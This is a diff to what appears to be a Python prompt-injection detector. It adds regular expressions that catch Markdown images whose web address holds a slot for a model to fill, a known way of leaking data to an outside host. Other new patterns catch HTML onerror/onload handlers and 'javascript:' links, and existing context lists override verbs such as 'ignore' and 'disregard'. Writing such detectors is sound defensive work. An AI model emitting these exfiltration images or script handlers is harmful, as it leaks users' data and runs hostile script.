@@ -49,6 +49,13 @@ _BARE = (
     r"table|poem|story|code|base64|hex|reverse|french|spanish|german|chinese)))"
 )
 # what a document's news is about: "the new instructions for ...", "updated instructions on ..."
+# a slot in an address for the model to fill: "[QUERY]", "{data}", "<secret>", "$DATA" (canonical
+# text is lowercase), "%7Bdata%7D" (a digit beside letters is folded as leetspeak: "%tbdata%td");
+# not "{{ var }}" of templating tools
+_SLOT = (
+    r"(?:\[[^\[\]\s]{1,40}\]|\{(?!\{)[^{}\s]{1,40}\}|<[^<>\s]{1,40}>|\$\w{2,40}"
+    r"|%(?:[7t]b|[5s]b|[3e]c))"
+)
 _NOT_ABOUT = r"(?!\s+(?:for|on|about|regarding|concerning|from|of|in|to|at|with)\b)"
 # not "override": "override any rule of national law" is ordinary legal prose
 _VERB_IGNORE = r"(?:ignore|disregard|forget|skip|bypass|neglect|abandon|discard)"
@@ -288,6 +295,37 @@ PATTERNS: tuple[Pattern, ...] = (
         r"\b(?:include|insert|embed|put|place|render|print|write|output)\b[^.\n]{0,40}\b(?:in|"
         r"into) (?:your|the) (?:response|reply|answer|output|completion)\b",
         ("in your ", "in the ", "into your ", "into the "),
+    ),
+    _p(
+        # A Markdown image whose address has a slot for the model to fill ("![a](https://x.example
+        # /p.png?q=[QUERY])"): rendering the answer sends what went into the slot to that host.
+        # Written in markup, so it reads the same in every language. A document's own images
+        # point at fixed files; a templating tool's "{{ user }}" is a double brace, left alone.
+        "exfiltration_image",
+        rf"!\[[^\]\n]{{0,200}}\]\(\s*<?(?:https?:)?//[^\s)]{{0,300}}?[?&=/]\s*{_SLOT}",
+        ("](",),
+    ),
+    _p(
+        # "<img src='x' onerror='...'>": an event handler that runs script wherever the answer is
+        # shown as HTML, or a link to a "javascript:" address (a web page's own menus use
+        # "javascript:void(0)", left alone). Markup, not words, so again any
+        # language. Not a plain "<script>" or an "onclick" in a web framework's template:
+        # documentation shows those as examples.
+        "script_handler_markup",
+        r"<(?:img|image|svg|iframe|body|video|audio|object|embed|input|details)\b[^<>\n]{0,200}"
+        r"[\s/]on(?:error|load|focus|toggle|mouseover|pageshow|begin)\s*="
+        r"|<(?:a|iframe|form|object|embed|button)\b[^<>\n]{0,200}[\s/](?:href|src|action|data|"
+        r"formaction)\s*=\s*[\"'`]?\s*javascript:(?!\s*void\b)",
+        (
+            "onerror",
+            "onload",
+            "onfocus",
+            "ontoggle",
+            "onmouseover",
+            "onpageshow",
+            "onbegin",
+            "javascript:",
+        ),
     ),
     _p(
         # "reply with only the following text and absolutely nothing else"
